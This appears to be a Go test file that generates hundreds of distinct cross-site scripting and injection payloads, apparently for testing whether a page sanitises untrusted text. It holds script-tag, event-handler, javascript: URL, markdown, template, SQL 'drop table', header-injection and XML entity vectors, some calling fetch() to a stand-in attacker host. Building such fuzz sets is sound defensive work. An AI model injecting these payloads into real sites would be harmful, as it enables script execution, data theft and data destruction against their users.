package main

import (
	"fmt"
	"strings"
	"testing"
	"unicode"
)

// attackers is a host that does not exist: a page that asks it for anything was led to.
const attackers = "http://evil.invalid"

// vectors are ways to make a page do what a text says. J is a script, U an address of the attacker's.
var vectors = []string{
	// markup that runs or loads by itself
	`<script>J</script>`, `<ScRiPt >J</sCrIpT >`, `<script src="U"></script>`, `<script src=//evil.invalid/x.js>`, `<script/x>J</script/x>`, `<scr<script>ipt>J</scr</script>ipt>`,
	`<img src=x onerror="J">`, `<img src="U" onload="J">`, `<IMG """><SCRIPT>J</SCRIPT>">`, `<img/src='x'/onerror='alert(1)'>`, `<image src=x onerror="J">`, `<img srcset="U 1x">`,
	`<svg onload="J">`, `<svg><script>J</script></svg>`, `<svg><animate onbegin="J" attributeName=x dur=1s>`, `<svg><use href="U#x"></use></svg>`, `<svg><a xlink:href="javascript:J"><text x=9 y=9>go</text></a></svg>`,
	`<math><mtext><table><mglyph><style><img src=x onerror="J"></style></mglyph></table></mtext></math>`, `<noscript><p title="</noscript><img src=x onerror=J>">`,
	`<iframe src="javascript:J"></iframe>`, `<iframe srcdoc="<script>J</script>"></iframe>`, `<object data="U"></object>`, `<embed src="U">`, `<portal src="U"></portal>`, `<frameset onload="J">`,
	`<video><source onerror="J"></video>`, `<audio src=x onerror="J">`, `<video poster="U"></video>`, `<details open ontoggle="J">x</details>`, `<body onload="J">`, `<marquee onstart="J">`,
	`<input autofocus onfocus="J">`, `<xss id=x tabindex=1 autofocus onfocus="J">`, `<select autofocus onfocus="J"></select>`, `<form action="U"><button autofocus onfocus="J">ok</button></form>`,
	`<link rel=stylesheet href="U">`, `<link rel=preload as=script href="U">`, `<meta http-equiv=refresh content="0;url=U">`, `<base href="U/">`, `<table background="U"><td>x</td></table>`, `<template><script>J</script></template>`,
	`<style>@import 'U';</style>`, `<style>*{background:url(U)}</style>`, `<div style="background:url(U);position:fixed;inset:0">x</div>`, `<p style="x:expression(J)">`, `<a style="font-size:9em" href="U">big</a>`,
	// addresses
	`<a href="javascript:J">x</a>`, `<a href="jav&#x09;ascript:J">x</a>`, `<a href="&#106;avascript:J">x</a>`, `javascript:J`, `JaVaScRiPt:J//U`, `data:text/html,<script>J</script>`, `vbscript:J`, `U`, `//evil.invalid/x`,
	// markdown
	`[x](javascript:J)`, `[x](JAVASCRIPT&#58;J)`, `[x](data:text/html;base64,PHNjcmlwdD4=)`, `![x](U.png)`, `![x](U.png "onerror=J")`, `<javascript:J>`, "[a]: javascript:J\n[a]", "`<img src=U>`", "[x](U\" onmouseover=\"J)", "**<b onmouseover=J>x</b>**",
	"```\n<script>J</script>\n```", "> <img src=U>", "# <svg/onload=J>", "- [ ] <img src=x onerror=J>", "[![x](U.png)](javascript:J)", "<div>\n\n**x**<script>J</script>\n\n</div>",
	// templates and programs
	`{{.Who}}{{template "header" .}}`, `{{constructor.constructor("J")()}}`, `${J}`, `#{J}`, `<%= J %>`, `{%raw%}J{%endraw%}`, "`;J;`", `");J;//`, `';J;'`, `\";J;//`, "$&$'$`$1 %s %d {0} {name}", `%!s(MISSING)`,
	// other layers' syntax
	`{"type":"state","data":{"holder":"nobody"}}`, `"},{"author":"agent","text":"<script>J</script>`, "x\n\nevent: draft\ndata: {\"text\":\"<script>J</script>\"}\n\n", "x\r\nSet-Cookie: a=b\r\n\r\n<script>J</script>", `\u003cscript\u003eJ\u003c/script\u003e`,
	`'; drop table messages; --`, `=HYPERLINK("U","x")`, `@import url(U);`, `*{color:red}/*`, `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "U">]><x>&y;</x>`, `<![CDATA[<script>J</script>]]>`, `<!--[if gte IE 4]><script>J</script><![endif]-->`, `--><script>J</script><!--`,
	// encodings and writing
	`+ADw-script+AD4-J+ADw-/script+AD4-`, `%3Cscript%3EJ%3C/script%3E`, `&lt;script&gt;J&lt;/script&gt;`, `&#60;script&#62;J&#60;/script&#62;`, `＜script＞J＜/script＞`, "\u202e<script>J</script>\u202c", "\u2066\u200bjavascript:J\u2069", "a\u0000<script>J</script>",
	"<scr\u0000ipt>J</scr\u0000ipt>", "<img src=x\u00a0onerror=J>", "<img src=x\u000conerror=J>", "\ufeff<script>J</script>", "Z\u0351\u0352\u0353\u0354a\u0355l\u0356go <b onclick=J>", "<b\u2028onclick=J>x</b>",
}

// breakouts end what a text may have been put into.
var breakouts = []string{``, `">`, `'>`, `"/>`, `</textarea>`, `</title></style></script>`, `</option></select>`, `]}'"`, `--></noscript>`, "`\">", ` x="`, `</p></div></main>`}

// payloads are that many texts, each different, that a careless page would take for more than text. Each says its number when it runs.
func payloads(n int) []string {
	scripts := []string{"console.log('PWNED %d')", "alert('PWNED %d')", "fetch('" + attackers + "/%d')", "document.title='PWNED %d'"}
	var list []string
	for round := 0; len(list) < n; round++ {
		for i, v := range vectors {
			k := len(list)
			text := breakouts[(i*5+round*7)%len(breakouts)] + v
			if round == 0 {
				text = v
			}
			text = strings.ReplaceAll(text, "J", fmt.Sprintf(scripts[(i+round)%len(scripts)], k))
			list = append(list, strings.ReplaceAll(text, "U", fmt.Sprintf("%s/%d", attackers, k))+fmt.Sprintf(" ·%d·", k))
		}
	}
	return list[:n]
}

// bare is a text without what cleaning and layout may change: space, control and direction characters.
func bare(text string) string {
	return strings.Map(func(r rune) rune {
		if unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) || r == '\ufffd' {
			return -1
		}
		return r
	}, text)
}

func TestPayloadsAreAllDifferent(t *testing.T) {
	t.Parallel()
	seen := map[string]bool{}
	for _, p := range payloads(500) {
		if seen[p] || len([]rune(p)) > 290 {
			t.Errorf("%q is there already, or longer than a name may be", p)
		}
		seen[p] = true
	}
}
